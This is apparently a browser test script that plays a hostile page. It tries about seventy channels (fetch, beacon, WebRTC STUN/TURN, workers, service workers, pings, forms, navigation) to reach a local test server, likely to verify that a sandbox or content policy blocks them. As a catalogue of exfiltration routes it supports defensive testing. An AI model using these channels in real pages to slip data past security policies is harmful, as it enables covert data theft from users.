// A hostile script of the page's own origin. `?try=all` takes every way out that leaves the page where it is,
// `?try=NAME` one of those that leave it. Each asks the address `to` for a path that is its name.
const { searchParams } = new URL(location.href)
const port = searchParams.get('port')
const to = name => `http://127.0.0.1:${port}/${name}`
const socket = name => to(name).replace('http', 'ws')

/** The page lets one policy make script addresses; whoever comes first may be anybody. */
const policy = globalThis.trustedTypes?.createPolicy('worker-source', { createScriptURL: address => address })
const script = address => policy?.createScriptURL(address) ?? address
const blobOf = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))

function put(tag, attributes, parent = document.body) {
  const element = Object.assign(document.createElement(tag), attributes)
  parent.append(element)
  return element
}

function style(text) {
  put('style', { textContent: text }, document.head)
}

function link(rel, name, more = {}) {
  put('link', { rel, href: to(name), ...more }, document.head)
}

function worker(text) {
  return new Worker(script(blobOf(text)))
}

function svg(tag, name) {
  const outer = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'))
  const inner = outer.appendChild(document.createElementNS('http://www.w3.org/2000/svg', tag))
  inner.setAttribute('href', to(name))
  return inner
}

function peer(Connection, urls) {
  const connection = new Connection({ iceServers: [{ urls, username: 'u', credential: 'p' }] })
  connection.createDataChannel('out')
  return connection.createOffer().then(offer => connection.setLocalDescription(offer))
}

function form(name, attributes = {}) {
  put('form', { action: to(name), method: 'post', ...attributes }).submit()
}

const STAYING = {
  'fetch': () => fetch(to('fetch')),
  'fetch-no-cors': () => fetch(to('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'x' }),
  'fetch-keepalive': () => fetch(to('fetch-keepalive'), { keepalive: true, mode: 'no-cors' }),
  'xhr': () => {
    const request = new XMLHttpRequest()
    request.open('POST', to('xhr'))
    request.send('x')
  },
  'websocket': () => new WebSocket(socket('websocket')),
  'beacon': () => navigator.sendBeacon(to('beacon'), 'x'),
  'event-source': () => new EventSource(to('event-source')),
  'web-transport': () => new WebTransport(to('web-transport').replace('http', 'https')),
  'image': () => Object.assign(new Image(), { src: to('image') }),
  'image-set': () => put('img', { srcset: `${to('image-set')} 1x` }),
  'input-image': () => put('input', { type: 'image', src: to('input-image') }),
  'svg-image': () => svg('image', 'svg-image'),
  'video': () => put('video', { src: to('video') }),
  'poster': () => put('video', { poster: to('poster') }),
  'audio': () => new Audio(to('audio')).load(),
  'background': () => Object.assign(document.body.style, { backgroundImage: `url(${to('background')})` }),
  'style-import': () => style(`@import url(${to('style-import')});`),
  'style-sheet': () => link('stylesheet', 'style-sheet'),
  'font': () => new FontFace('out', `url(${to('font')})`).load(),
  'script': () => put('script', { src: script(to('script')) }),
  'script-import': () => import(to('script-import')),
  'worklet': () => new AudioContext().audioWorklet.addModule(to('worklet')),
  'object': () => put('object', { data: script(to('object')) }),
  'embed': () => put('embed', { src: script(to('embed')) }),
  'frame': () => put('iframe', { src: to('frame') }),
  'blank-frame-fetch': () => put('iframe', {}).contentWindow.fetch(to('blank-frame-fetch')),
  'document-frame': () => put('iframe', { srcdoc: `<img src="${to('document-frame')}">` }),
  'blob-frame': () => put('iframe', { src: blobOf(`<img src="${to('blob-frame')}">`, 'text/html') }),
  'form-in-frame': () => form('form-in-frame', { target: put('iframe', { name: 'inside' }).name }),
  'ping': () => put('a', { href: '#', ping: to('ping') }).click(),
  'prefetch': () => link('prefetch', 'prefetch'),
  'preload': () => link('preload', 'preload', { as: 'image' }),
  'module-preload': () => link('modulepreload', 'module-preload'),
  'icon': () => link('icon', 'icon'),
  'manifest': () => link('manifest', 'manifest'),
  'speculation': () => {
    const prefetch = [{ source: 'list', urls: [to('speculation')] }]
    put('script', { type: 'speculationrules', text: JSON.stringify({ prefetch }) })
  },
  'blob-worker-fetch': () => worker(`fetch('${to('blob-worker-fetch')}')`),
  'blob-worker-websocket': () => worker(`new WebSocket('${socket('blob-worker-websocket')}')`),
  'blob-worker-import': () => worker(`importScripts('${to('blob-worker-import')}')`),
  'nested-worker-fetch': () => {
    const inner = `fetch('${to('nested-worker-fetch')}')`
    worker(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])))`)
  },
  'shared-worker-fetch': () => new SharedWorker(script(blobOf(`fetch('${to('shared-worker-fetch')}')`))),
  'own-worker-fetch': () => new Worker(script(`./attack-worker.js?to=${to('own-worker-fetch')}`)),
  'service-worker-fetch': () =>
    navigator.serviceWorker.register(script(`./attack-worker.js?to=${to('service-worker-fetch')}`)),
  'peer-udp': () => peer(RTCPeerConnection, `stun:127.0.0.1:${searchParams.get('udp')}`),
  'peer-tcp': () => peer(RTCPeerConnection, `turn:127.0.0.1:${searchParams.get('tcp')}?transport=tcp`),
  'blank-frame-peer': () =>
    peer(put('iframe', {}).contentWindow.RTCPeerConnection, `stun:127.0.0.1:${searchParams.get('udp2')}`),
}

const LEAVING = {
  'location': () => location.assign(to('location')),
  'navigate': () => globalThis.navigation.navigate(to('navigate')),
  'link': () => put('a', { href: to('link') }).click(),
  'link-event': () => document.createElement('a').dispatchEvent.call(put('a', { href: to('link-event') }), click()),
  'link-new-window': () => put('a', { href: to('link-new-window'), target: '_blank' }).click(),
  'detached-link': () =>
    Object.assign(document.createElement('a'), { href: to('detached-link'), target: '_blank' }).click(),
  'area': () => put('area', { href: to('area'), target: '_blank' }, put('map', {})).click(),
  'svg-link': () => {
    const element = svg('a', 'svg-link')
    element.setAttribute('target', '_blank')
    element.dispatchEvent(click())
  },
  'borrowed-link-event': () => {
    const element = Object.assign(document.createElement('a'), { href: to('borrowed-link-event'), target: '_blank' })
    EventTarget.prototype.dispatchEvent.call(element, click())
  },
  'download': () => put('a', { href: to('download'), download: 'x' }).click(),
  'open': () => window.open(to('open')),
  'blob-window': () => window.open(blobOf(`<img src="${to('blob-window')}">`, 'text/html')),
  'blank-frame-open': () => put('iframe', {}).contentWindow.open(to('blank-frame-open')),
  'refresh': () => put('meta', { httpEquiv: 'refresh', content: `0; url=${to('refresh')}` }, document.head),
  'form': () => form('form'),
  'form-new-window': () => form('form-new-window', { target: '_blank' }),
}

function click() {
  return new MouseEvent('click', { bubbles: true, cancelable: true, composed: true })
}

/** What is refused is refused in many ways, some by an exception: none may keep the next from being tried. */
async function attempt(channel) {
  try {
    await channel()
  } catch (reason) {
    console.info(String(reason))
  }
}

addEventListener('load', () => {
  const asked = searchParams.get('try')
  if (asked === 'all') Object.values(STAYING).forEach(attempt)
  else if (asked in LEAVING) attempt(LEAVING[asked])
})

globalThis.attacks = { staying: Object.keys(STAYING), leaving: Object.keys(LEAVING) }
